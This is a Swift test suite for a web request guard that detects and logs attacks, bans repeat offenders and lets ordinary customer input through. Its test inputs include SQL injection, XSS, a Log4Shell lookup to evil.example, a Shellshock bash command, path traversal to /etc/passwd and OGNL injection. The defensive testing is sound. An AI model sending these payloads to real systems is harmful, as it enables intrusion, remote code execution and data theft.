import Foundation
import Testing

@testable import Detection

@Suite struct `The guard in front of the gateway` {
    static func request(_ change: (inout RequestGuard.Request) -> Void) -> RequestGuard.Request {
        var request = RequestGuard.Request()
        (request.method, request.path, request.agent) = ("POST", "/clients", "Mozilla/5.0")
        change(&request)
        return request
    }

    static func json(_ text: String) -> RequestGuard.Request {
        request { ($0.contentType, $0.body) = ("application/json", Array(text.utf8)) }
    }

    @Test func `sees attacks in bodies, cookies and headers, which an access log does not show`() throws {
        let guarding = try RequestGuard(log: nil)
        #expect(
            guarding.judge(Self.json(#"{"nom":"x","ville":"' UNION SELECT mot_de_passe FROM employes--"}"#))?.place
                == "body")
        #expect(
            guarding.judge(Self.json(#"[{"note":"\u003cscript\u003ealert(1)\u003c/script\u003e"}]"#))?.kind == "xss")
        let form = Self.request {
            ($0.contentType, $0.body) = (
                "application/x-www-form-urlencoded", Array("a=1&b=%24%7Bjndi%3Aldap%3A%2F%2Fe%2Fa%7D".utf8)
            )
        }
        #expect(guarding.judge(form)?.kind == "log4shell")
        #expect(guarding.judge(Self.request { $0.cookie = "a=b; theme=../../../../etc/passwd" })?.place == "cookie")
        #expect(guarding.judge(Self.request { $0.agent = "() { :;}; /bin/bash -c id" })?.kind == "command_injection")
        #expect(guarding.judge(Self.request { $0.query = "id=eq.1%20or%201=1--" }) != nil)
    }

    @Test func `reads all headers but those that carry tokens`() throws {
        let guarding = try RequestGuard(log: nil)
        func judge(_ name: String, _ value: String) -> String? {
            guarding.judge(Self.request { $0.headers = [("Accept", "*/*"), (name, value)] })?.place
        }
        let attack = "${jndi:ldap://evil.example/a}"
        for name in ["X-Api-Version", "X-Forwarded-For", "Accept-Language", "Content-Type", "X-Request-Id"] {
            #expect(judge(name, attack) == "header", "\(name)")
        }
        for name in ["Authorization", "apikey", "X-CSRF-Token", "Proxy-Authorization"] {
            #expect(judge(name, attack) == nil, "\(name)")
        }
        #expect(judge("Content-Type", "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT)}") == "header")
        for (name, value) in [
            ("Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"), ("If-None-Match", "W/\"a-b'c\""),
            ("Prefer", "return=representation, resolution=merge-duplicates"), ("Range", "0-24"),
            ("Accept-Profile", "public"), ("Sec-CH-UA", #""Chromium";v="129", "Not=A?Brand";v="8""#),
            ("X-Client-Info", "supabase-js-web/2.45.4"), ("Origin", "http://localhost:3000"),
        ] {
            #expect(judge(name, value) == nil, "\(name): \(value)")
        }
    }

    @Test func `reads forms of several parts, and the names in JSON`() throws {
        let guarding = try RequestGuard(log: nil)
        func form(_ head: String, _ content: String) -> RequestGuard.Request {
            Self.request {
                $0.contentType = "Multipart/Form-Data; Boundary=\"x y\""
                $0.body = Array(
                    "--x y\r\nContent-Disposition: form-data; \(head)\r\n\r\n\(content)\r\n--x y--\r\n".utf8)
            }
        }
        #expect(guarding.judge(form("name=\"nom\"", "' or 1=1--"))?.place == "body")
        #expect(guarding.judge(form("name=\"f\"; filename=\"../../../etc/passwd\"", "x"))?.place == "body")
        #expect(
            guarding.judge(form("name=f; filename=a.svg\r\nContent-Type: image/svg+xml", "<svg onload=alert(1)>"))
                != nil)
        #expect(
            guarding.judge(form("name=\"f\"; filename=\"photo.jpg\"\r\nContent-Type: image/jpeg", "' or 1=1--")) == nil)
        #expect(guarding.judge(form("name=\"libelle\"", "Loyer d'octobre; merci")) == nil)
        #expect(guarding.judge(form("name=\"password\"", "' or 1=1--")) == nil)
        for text in [
            #"{"nom' or 1=1--":"x"}"#, #"{"a":{"<script>alert(1)</script>" : 1}}"#, #"{"email":{"$ne":null}}"#,
        ] {
            #expect(guarding.judge(Self.json(text)) != nil, "\(text)")
        }
        #expect(guarding.judge(Self.json(#"{"Nom du client":"x","adresse.ville":"y","a-b":1}"#)) == nil)
    }

    @Test func `bans an address that attacks in bodies, and makes an incident of what passed`() async throws {
        let folder = FileManager.default.temporaryDirectory.appending(path: "guard-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let guarding = try RequestGuard(log: nil)
        var policy = ResponseDesk.Policy()
        policy.isDryRun = false
        let watch = try GuardWatch(policy, journal: folder + "/guard.jsonl") { 1_790_000_000_000_000 }
        for (address, times) in [("203.0.113.7", 5), ("203.0.113.8", 2)] {
            for _ in 0..<times {
                var request = Self.json(#"{"ville":"' UNION SELECT iban FROM comptes--"}"#)
                request.address = address
                let verdict = try #require(guarding.judge(request))
                watch.note(verdict, request, isRefused: false)
            }
        }
        let (acts, act) = AsyncStream<ResponseDesk.Act>.makeStream()
        let (stories, story) = AsyncStream<[Incident]>.makeStream()
        let work = Task {
            try await watch.run(every: .milliseconds(20)) {
                act.yield($0)
            } tell: {
                story.yield($0)
            }
        }
        defer { work.cancel() }
        let first = await acts.first { _ in true }
        #expect(first == .ban("203.0.113.7", seconds: 3_600, rule: "web-attack-series"))
        let told = await stories.first { !$0.isEmpty }
        #expect(told?.first?.findings.contains { $0.rule.id == "web-attack-series" } == true)
        #expect(told?.first?.findings.contains { $0.evidence.contains("UNION") } == false)
        #expect(watch.dropped == 0)
    }

    @Test func `leaves what customers write alone, and never reads their passwords`() throws {
        let guarding = try RequestGuard(log: nil)
        for text in [
            #"{"email":"a@b.fr","password":"' or 1=1 --"}"#,
            #"{"libelle":"Loyer d'octobre (2/2) & charges, n° 12","montant":"812.50"}"#,
            #"{"nom":"O'Neil-d'Arc","note":"Merci de rappeler demain à 14h; c'est urgent !"}"#,
            #"{"message":"Je voudrais sélectionner la carte et supprimer l'ancienne. Union des copropriétaires"}"#,
        ] {
            let verdict = guarding.judge(Self.json(text))
            #expect(verdict == nil, "\(text) \(String(describing: verdict))")
        }
    }

    @Test func `notes what it saw without the payload`() throws {
        try Logs.withFolder([:]) { folder in
            let guarding = try RequestGuard(log: folder + "/waf.jsonl")
            let request = Self.json(#"{"ville":"' UNION SELECT iban FROM comptes--"}"#)
            let verdict = try #require(guarding.judge(request))
            guarding.note(verdict, request, isRefused: true)
            let line = try String(contentsOfFile: folder + "/waf.jsonl", encoding: .utf8)
            #expect(line.contains(#""class":"sql_injection""#) && line.contains(#""decision":"refused""#))
            #expect(!line.contains("UNION"))
        }
    }

    @Test func `serves many callers at once`() async throws {
        let guarding = try RequestGuard(log: nil)
        let hits = await withTaskGroup(of: Int.self) { group in
            for task in 0..<8 {
                group.addTask {
                    (0..<200).count { index in
                        let isAttack = (index + task) % 4 == 0
                        return guarding.judge(
                            Self.request { $0.query = isAttack ? "q=%27%20or%201=1--" : "q=\(index)" }) != nil
                    }
                }
            }
            return await group.reduce(0, +)
        }
        #expect(hits == 8 * 50)
    }
}
